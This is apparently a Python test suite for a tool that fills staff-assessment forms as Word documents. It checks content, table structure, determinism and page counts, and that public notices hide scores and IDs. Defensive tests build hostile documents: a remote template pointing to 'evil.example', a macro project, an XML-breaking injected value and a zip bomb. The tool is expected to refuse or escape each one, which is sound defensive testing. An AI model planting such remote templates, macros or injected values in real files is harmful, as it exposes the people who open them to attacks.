"""Forms as Word documents: they say what the HTML forms say, open in a word processor, fit their pages, and keep the document as it was."""
import html
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree as ElementTree
import zipfile

from support import SOURCE, assess

INPUT = SOURCE / "examples" / "forms"
HTML_FORMS = SOURCE / "libassess" / "forms"
WORD_FORMS = pathlib.Path(os.environ.get("ASSESS_BUILD", SOURCE / "build" / "release")) / "libassess" / "forms"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
REGISTRATIONS = ("civil-servant", "institution", "worker")
ALL = (*REGISTRATIONS, "roster", "review-summary", "result-notice", "public-notice")
GIVEN = {"zh": ["机关名称=某某局", "公示时间=2026年12月21日至12月25日", "受理部门=人事科", "电话=0000-88880000"],
         "en": ["organisation=The Bureau", "display=from 21 to 25 December 2026", "office=Personnel", "phone=0000-88880000"]}
TYPES = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
         'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
         'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
RELATIONS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
             'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')


def forms(form, out, *arguments, lang="zh", inputs=INPUT):
    return assess("forms", "--form", form, "--out", out, "--lang", lang, "--rules", "bureau", "--period", "2026", *arguments, inputs,
                  ASSESS_FORMS=f"{HTML_FORMS}:{WORD_FORMS}")


def part(document, name="word/document.xml"):
    with zipfile.ZipFile(document) as archive:
        assert archive.testzip() is None
        return archive.read(name).decode()


def tree(document):
    return ElementTree.fromstring(part(document))


def paragraphs(document):
    """The text of each paragraph, line breaks as such."""
    texts = []
    for p in tree(document).iter(f"{W}p"):
        pieces = [node.text or "" if node.tag == f"{W}t" else "\n" if node.tag == f"{W}br" else "" for node in p.iter()]
        texts.append("".join(pieces))
    return texts


def squeezed(text):
    return re.sub(r"[\s\u3000\u00a0]", "", text)


def page_text(page):
    body = re.search(r"<body>(.*)</body>", page, re.S)[1]
    return html.unescape(re.sub(r"<[^>]*>", "", body))


class Folder(unittest.TestCase):
    def setUp(self):
        holder = tempfile.TemporaryDirectory()
        self.addCleanup(holder.cleanup)
        self.out = pathlib.Path(holder.name)

    def made(self, form, *arguments, lang="zh", kind="docx", inputs=INPUT):
        given = [a for field in GIVEN[lang] for a in ("--field", field)] if form == "public-notice" else []
        own = ["--format", kind] if isinstance(form, str) else []
        done = forms(form, self.out / lang, *own, *given, *arguments, lang=lang, inputs=inputs)
        self.assertEqual(0, done.returncode, done.stderr.decode())
        return self.out / lang / (f"{form}.{kind}" if own else pathlib.Path(form).name)

    def own(self, body, name="own.docx", more=(), types=TYPES):
        """A document of one's own; `body` is what stands in <w:body>."""
        file = self.out / name
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("[Content_Types].xml", types)
            archive.writestr("_rels/.rels", RELATIONS)
            archive.writestr("word/document.xml", f'<w:document xmlns:w="{W[1:-1]}"><w:body>{body}</w:body></w:document>')
            for path, text in more:
                archive.writestr(path, text)
        return file


def words(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


class Content(Folder):
    def test_a_word_form_says_what_the_html_form_says(self):
        for form in ALL:
            for lang in ("zh", "en"):
                page = self.made(form, lang=lang, kind="html").read_text(encoding="utf-8")
                document = self.made(form, lang=lang)
                self.assertEqual(squeezed(page_text(page)), squeezed("".join(paragraphs(document))), f"{form} {lang}")

    def test_the_documents_are_made_from_the_html_forms(self):
        done = subprocess.run([sys.executable, HTML_FORMS / "word" / "make.py", "--check"], capture_output=True, check=False)
        self.assertEqual(0, done.returncode, done.stderr.decode())

    def test_every_cell_has_a_paragraph_and_every_row_all_columns(self):
        for form in ALL:
            document = tree(self.made(form))
            for table in document.iter(f"{W}tbl"):
                columns = len(table.find(f"{W}tblGrid"))
                for row in table.findall(f"{W}tr"):
                    spans = [int(s.get(f"{W}val")) if (s := c.find(f"{W}tcPr/{W}gridSpan")) is not None else 1 for c in row.findall(f"{W}tc")]
                    self.assertEqual(columns, sum(spans), form)
                for cell in table.iter(f"{W}tc"):
                    self.assertEqual(f"{W}p", cell[-1].tag, form)

    def test_a_word_processor_of_another_maker_reads_it(self):
        try:
            import docx
        except ImportError:
            self.skipTest("no python-docx")
        document = docx.Document(str(self.made("roster")))
        table = document.tables[0]
        self.assertEqual(["1", "周敏", "优秀"], [table.rows[1].cells[i].text for i in (0, 2, 6)])
        self.assertEqual(11, len(table.rows), "a header and ten people; the rows {{#people}} and “（无）” are gone")

    def test_lines_of_a_value_are_lines_of_the_document(self):
        [summary] = [p for p in paragraphs(self.made("civil-servant", "--person", "3001")) if "政治素质" in p]
        self.assertEqual(5, len(summary.split("\n")), "examples/forms/人员.csv")

    def test_a_public_notice_shows_neither_scores_nor_ids(self):
        text = "".join(paragraphs(self.made("public-notice")))
        for secret in ("93.38", "3001", "一票否决", "郑凯"):
            self.assertNotIn(secret, text)
        self.assertIn("周敏", text)

    def test_the_same_bytes_twice_and_from_a_sealed_batch(self):
        first = self.made("civil-servant").read_bytes()
        self.assertEqual(first, self.made("civil-servant", "--force", "--threads", "3").read_bytes())
        assess("run", "--rules", "bureau", "--period", "2026", "--out", self.out / "run", INPUT)
        done = assess("forms", "--form", "civil-servant", "--format", "docx", "--out", self.out / "sealed", "--lang", "zh",
                      self.out / "run" / "batch.db", ASSESS_FORMS=f"{HTML_FORMS}:{WORD_FORMS}")
        self.assertEqual(0, done.returncode, done.stderr.decode())
        self.assertEqual(first, (self.out / "sealed" / "civil-servant.docx").read_bytes())


class Own(Folder):
    def test_a_document_of_ones_own_is_filled(self):
        form = self.own(words("{{#people 等次=优秀}}") + "<w:p><w:r><w:rPr><w:b/></w:rPr><w:t>｛｛姓</w:t></w:r><w:r><w:t>名｝｝：{{得分}}</w:t></w:r></w:p>" +
                        words("{{/people}}"), more=[("word/media/x.bin", "kept")])
        made = self.made(form)
        self.assertEqual(["周敏：93.38", "宋雨桐：90.40", "何静：94.48"], paragraphs(made))
        self.assertEqual("kept", part(made, "word/media/x.bin"))
        self.assertRegex(part(made), "<w:b/></w:rPr><w:t[^>]*>周敏", "the value looks as the place where its name begins")

    def test_values_are_text_whatever_they_hold(self):
        copy = self.out / "in"
        shutil.copytree(INPUT, copy)
        people = (copy / "人员.csv").read_text(encoding="utf-8")
        evil = '"</w:t></w:r><w:r>&amp;{{id}} \x01\t""\'\ufffe"'
        (copy / "人员.csv").write_text(people.replace("周敏", evil), encoding="utf-8")
        form = self.own(words("{{#people}}") + words("{{姓名}}") + words("{{/people}}"))
        done = forms(form, self.out / "made", inputs=copy)
        self.assertEqual(0, done.returncode, done.stderr.decode())
        text = paragraphs(self.out / "made" / "own.docx")[0]
        self.assertTrue(text.startswith("</w:t></w:r><w:r>&amp;{{id}} "), text)

    def test_an_unknown_name_is_named_with_what_there_is_and_nothing_is_written(self):
        form = self.own(words("one") + words("{{#people}}{{姓明}}{{/people}}"))
        done = forms(form, self.out / "new" / "deep")
        self.assertEqual(2, done.returncode)
        said = done.stderr.decode()
        for expected in ("own.docx", "2", "姓明", "是否应为“姓名”", "单位"):
            self.assertIn(expected, said)
        self.assertFalse((self.out / "new").exists())

    def test_macros_and_remote_templates_are_refused_in_words(self):
        remote = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
                  'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" '
                  'TargetMode="External"/></Relationships>')
        for form, words_said in ((self.own(words("x"), "a.docx", types=TYPES.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')), "宏"),
                                 (self.own(words("x"), "b.docx", more=[("word/_rels/settings.xml.rels", remote)]), "http://evil.example/x.dotm")):
            done = forms(form, self.out / "made")
            self.assertEqual(2, done.returncode)
            self.assertIn(words_said, done.stderr.decode())
            self.assertFalse((self.out / "made").exists())

    def test_an_archive_that_unpacks_to_too_much_is_refused(self):
        form = self.out / "bomb.docx"
        with zipfile.ZipFile(form, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", TYPES)
            archive.writestr("word/document.xml", f'<w:document xmlns:w="{W[1:-1]}"><w:body>' + " " * (300 << 20))
        self.assertEqual(2, forms(form, self.out / "made").returncode)


class Calls(Folder):
    def test_a_file_for_each_person(self):
        done = forms("civil-servant", self.out, "--format", "docx", "--separate")
        self.assertEqual(0, done.returncode, done.stderr.decode())
        files = sorted((self.out / "civil-servant").iterdir())
        self.assertEqual([f"{n}.docx" for n in range(3001, 3011)], [f.name for f in files])
        self.assertIn("周敏", paragraphs(files[0]))

    def test_kinds_are_listed_and_asked_for(self):
        listed = assess("forms", "--list", "--lang", "zh", ASSESS_FORMS=f"{HTML_FORMS}:{WORD_FORMS}").stdout.decode()
        self.assertRegex(listed, r"(?m)^roster .*\[html, docx\]$")
        own = self.out / "own"
        own.mkdir()
        shutil.copy(HTML_FORMS / "roster.html", own / "page.html")
        only_html = assess("forms", "--form", "page", "--format", "docx", "--out", self.out / "made", "--rules", "bureau", "--period", "2026", INPUT,
                           ASSESS_FORMS=str(own))
        self.assertEqual(2, only_html.returncode)
        self.assertIn(".docx", only_html.stderr.decode())
        other = forms(WORD_FORMS / "roster.docx", self.out, "--format", "html")
        self.assertEqual(2, other.returncode)

    def test_a_name_and_what_it_names_are_of_one_kind(self):
        page = self.out / "page.docx"
        page.write_text("<html>{{考核期}}</html>", encoding="utf-8")
        document = self.own(words("{{考核期}}"), "document.html")
        for form, said in ((page, "这不是 Word 文档"), (document, ".docx 结尾")):
            done = forms(form, self.out / "made")
            self.assertEqual(2, done.returncode)
            self.assertIn(said, done.stderr.decode())
        self.assertFalse((self.out / "made").exists())

    def test_where_there_is_only_a_document_it_is_taken(self):
        shutil.copy(WORD_FORMS / "roster.docx", self.out / "list.docx")
        done = assess("forms", "--form", "list", "--out", self.out / "made", "--rules", "bureau", "--period", "2026", INPUT, ASSESS_FORMS=str(self.out))
        self.assertEqual(0, done.returncode, done.stderr.decode())
        self.assertTrue((self.out / "made" / "list.docx").exists())


@unittest.skipUnless(shutil.which("soffice") and shutil.which("pdfinfo"), "no LibreOffice")
class Pages(Folder):
    def pages(self, documents):
        done = subprocess.run(["soffice", f"-env:UserInstallation=file://{self.out}/profile", "--headless", "--convert-to", "pdf", "--outdir", self.out / "pdf",
                               *documents], capture_output=True, check=False)
        found = {}
        for pdf in (self.out / "pdf").glob("*.pdf") if (self.out / "pdf").exists() else ():
            said = subprocess.run(["pdfinfo", pdf], capture_output=True, check=True).stdout.decode()
            found[pdf.stem] = int(re.search(r"Pages:\s+(\d+)", said)[1])
        if not found and b"could not be loaded" in done.stdout + done.stderr:
            self.skipTest("LibreOffice without its word processor")
        return found

    def test_a_form_that_another_word_processor_saved_is_filled(self):
        subprocess.run(["soffice", f"-env:UserInstallation=file://{self.out}/profile", "--headless", "--convert-to", "docx:MS Word 2007 XML", "--outdir",
                        self.out / "saved", *(WORD_FORMS / f"{form}.docx" for form in ("civil-servant", "roster"))], capture_output=True, check=False)
        if not (self.out / "saved").exists():
            self.skipTest("LibreOffice without its word processor")
        for form in ("civil-servant", "roster"):
            saved = self.made(self.out / "saved" / f"{form}.docx", "--force")
            again = squeezed("".join(paragraphs(saved)))
            self.assertEqual(squeezed("".join(paragraphs(self.made(form, "--force")))), again, form)

    def test_forms_take_the_pages_that_they_should(self):
        for lang in ("zh", "en"):
            found = self.pages([self.made(form, lang=lang) for form in ALL])
            expected = {**{form: 20 for form in REGISTRATIONS}, "roster": 1, "review-summary": 1, "public-notice": 1}
            self.assertEqual(expected, {form: pages for form, pages in found.items() if form in expected}, "ten people, two sides each")


if __name__ == "__main__":
    unittest.main()
